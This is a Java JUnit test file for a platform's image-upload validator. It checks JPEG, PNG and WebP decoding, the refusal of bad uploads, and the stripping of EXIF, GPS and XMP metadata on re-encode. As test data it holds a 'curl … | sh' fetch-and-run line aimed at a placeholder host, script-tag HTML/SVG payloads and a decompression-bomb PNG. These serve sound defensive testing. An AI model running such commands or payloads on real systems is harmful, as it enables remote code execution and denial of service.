package org.corkboard.platform.images;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import javax.imageio.ImageIO;
import org.corkboard.platform.Refused;
import org.corkboard.platform.TooLarge;
import org.corkboard.testing.TestImages;
import org.junit.jupiter.api.Test;

class PicturesTest {

  /**
   * 24 x 16, made with cwebp -q 60 from pixels of green 128 throughout, red 255 in the left half
   * and blue 255 in the top half.
   */
  private static final byte[] LOSSY_WEBP =
      Base64.getDecoder()
          .decode(
              "UklGRl4AAABXRUJQVlA4IFIAAABwAwCdASoYABAAPrVKnkonJCKhsAgA4BaJagCdLcAZv+B5oEAA/tA381fKj/+Vf/yNY+1OxpxeOv3Bq3tP86t/5oidTfv9r/miJ1KNkkEOgAAA");

  /** The same picture, made with cwebp -lossless. */
  private static final byte[] LOSSLESS_WEBP =
      Base64.getDecoder()
          .decode(
              "UklGRjIAAABXRUJQVlA4TCYAAAAvF8ADAB8wgPMvICjyf7T5j2RCQJhtNMlJTvL+RxDR/6jU5zbgCQ==");

  private static final String FIELD = "picture";

  // --- accepted uploads ---

  @Test
  void decodesAJpeg() throws IOException {
    Picture picture =
        Pictures.decode(
            TestImages.encode(TestImages.photo(300, 200, BufferedImage.TYPE_INT_RGB), "jpeg"),
            FIELD);

    assertThat(picture.format()).isEqualTo("jpeg");
    assertThat(picture.width()).isEqualTo(300);
    assertThat(picture.height()).isEqualTo(200);
  }

  @Test
  void decodesAPngWithTransparency() throws IOException {
    Picture picture =
        Pictures.decode(
            TestImages.encode(TestImages.photo(300, 200, BufferedImage.TYPE_INT_ARGB), "png"),
            FIELD);

    assertThat(picture.format()).isEqualTo("png");
    assertThat(picture.width()).isEqualTo(300);
    assertThat(picture.height()).isEqualTo(200);
  }

  @Test
  void decodesALossyWebP() {
    Picture picture = Pictures.decode(LOSSY_WEBP, FIELD);

    assertThat(picture.format()).isEqualTo("webp");
    assertThat(picture.width()).isEqualTo(24);
    assertThat(picture.height()).isEqualTo(16);
    assertThat(new Color(picture.image().getRGB(3, 12)).getRed()).isGreaterThan(200);
  }

  @Test
  void decodesALosslessWebP() {
    Picture picture = Pictures.decode(LOSSLESS_WEBP, FIELD);

    assertThat(picture.format()).isEqualTo("webp");
    assertThat(picture.image().getRGB(3, 3) & 0xFFFFFF).isEqualTo(0xFF80FF);
    assertThat(picture.image().getRGB(20, 12) & 0xFFFFFF).isEqualTo(0x008000);
  }

  // --- refused uploads ---

  @Test
  void refusesAnEmptyUpload() {
    assertRefused(new byte[0], "Choose a picture to upload.");
    assertRefused(null, "Choose a picture to upload.");
  }

  @Test
  void refusesAFileLargerThanTenMegabytes() throws IOException {
    // A valid PNG at the start, so that only the size can be the reason.
    byte[] png = TestImages.encode(TestImages.photo(30, 20, BufferedImage.TYPE_INT_RGB), "png");

    assertThatThrownBy(() -> Pictures.decode(Arrays.copyOf(png, Pictures.MAX_BYTES + 1), FIELD))
        .isInstanceOf(TooLarge.class)
        .hasMessage("A picture may be at most 10 MB; choose a smaller one.");
  }

  @Test
  void refusesADecompressionBombBeforeDecodingIt() throws IOException {
    // 10,000 x 5,000 = 50 megapixels, over the 40 MP limit, yet only a few kilobytes as a PNG.
    byte[] bomb =
        TestImages.encode(new BufferedImage(10_000, 5_000, BufferedImage.TYPE_BYTE_BINARY), "png");
    assertThat(bomb.length).isLessThan(100_000);

    assertRefused(bomb, "The picture has more than 40 megapixels; choose a smaller one.");
  }

  @Test
  void refusesHtml() {
    assertRefused(
        ascii("<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n"),
        Pictures.NOT_A_PICTURE);
  }

  @Test
  void refusesSvg() {
    assertRefused(
        ascii(
            "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"30\""
                + " height=\"20\"><script>alert(1)</script><rect width=\"30\" height=\"20\"/></svg>"),
        Pictures.NOT_A_PICTURE);
  }

  @Test
  void refusesAShellScriptWhateverItIsCalled() {
    assertRefused(ascii("#!/bin/sh\ncurl http://example.invalid/x | sh\n"), Pictures.NOT_A_PICTURE);
  }

  @Test
  void refusesGifAndBmpPictures() throws IOException {
    assertRefused(
        TestImages.encode(TestImages.photo(30, 20, BufferedImage.TYPE_INT_RGB), "gif"),
        Pictures.NOT_A_PICTURE);
    assertRefused(
        TestImages.encode(TestImages.photo(30, 20, BufferedImage.TYPE_INT_RGB), "bmp"),
        Pictures.NOT_A_PICTURE);
  }

  @Test
  void refusesTruncatedPictures() throws IOException {
    byte[] jpeg = TestImages.encode(TestImages.photo(300, 200, BufferedImage.TYPE_INT_RGB), "jpeg");
    byte[] png = TestImages.encode(TestImages.photo(300, 200, BufferedImage.TYPE_INT_RGB), "png");

    assertRefused(Arrays.copyOf(jpeg, jpeg.length / 2), Pictures.DAMAGED);
    assertRefused(Arrays.copyOf(png, png.length / 2), Pictures.DAMAGED);
    assertRefused(Arrays.copyOf(png, 100), Pictures.DAMAGED);
    assertRefused(Arrays.copyOf(LOSSY_WEBP, LOSSY_WEBP.length / 2), Pictures.DAMAGED);
    assertRefused(Arrays.copyOf(LOSSLESS_WEBP, LOSSLESS_WEBP.length / 2), Pictures.DAMAGED);
  }

  // --- re-encoding ---

  @Test
  void reEncodingDropsExifGpsAndXmpMetadata() throws IOException {
    byte[] upload =
        withSegment(
            withSegment(
                TestImages.encode(TestImages.photo(300, 200, BufferedImage.TYPE_INT_RGB), "jpeg"),
                ascii("http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>Secret Street 1</x:xmpmeta>")),
            ascii("Exif\0\0II*\0\u0008\0\0\0\0\0\0\0\0\0GPS 47.37N 8.54E"));
    assertThat(contains(upload, "Exif")).as("the upload carries EXIF").isTrue();

    byte[] jpeg = Pictures.jpeg(Pictures.decode(upload, FIELD).image(), 0.85f);

    assertThat(ImageIO.read(new ByteArrayInputStream(jpeg)).getWidth()).isEqualTo(300);
    assertThat(contains(jpeg, "Exif")).isFalse();
    assertThat(contains(jpeg, "GPS 47.37N 8.54E")).isFalse();
    assertThat(contains(jpeg, "Secret Street 1")).isFalse();
    assertThat(contains(jpeg, "http://ns.adobe.com/xap")).isFalse();
  }

  @Test
  void reEncodingLaysTransparencyOverWhite() throws IOException {
    BufferedImage transparent = new BufferedImage(40, 40, BufferedImage.TYPE_INT_ARGB);

    byte[] jpeg = Pictures.jpeg(transparent, 0.9f);

    Color corner = new Color(ImageIO.read(new ByteArrayInputStream(jpeg)).getRGB(0, 0));
    assertThat(corner.getRed() + corner.getGreen() + corner.getBlue()).isGreaterThan(3 * 245);
  }

  // --- helpers ---

  private static void assertRefused(byte[] upload, String message) {
    assertThatThrownBy(() -> Pictures.decode(upload, FIELD))
        .isInstanceOf(Refused.class)
        .hasMessage(message)
        .satisfies(e -> assertThat(((Refused) e).field()).isEqualTo(FIELD));
  }

  /** The JPEG with an APP1 segment of the given payload right after its SOI marker. */
  private static byte[] withSegment(byte[] jpeg, byte[] payload) {
    return TestImages.withSegment(jpeg, 0xE1, payload);
  }

  private static boolean contains(byte[] haystack, String needle) {
    byte[] n = ascii(needle);
    outer:
    for (int i = 0; i + n.length <= haystack.length; i++) {
      for (int j = 0; j < n.length; j++) {
        if (haystack[i + j] != n[j]) {
          continue outer;
        }
      }
      return true;
    }
    return false;
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }
}
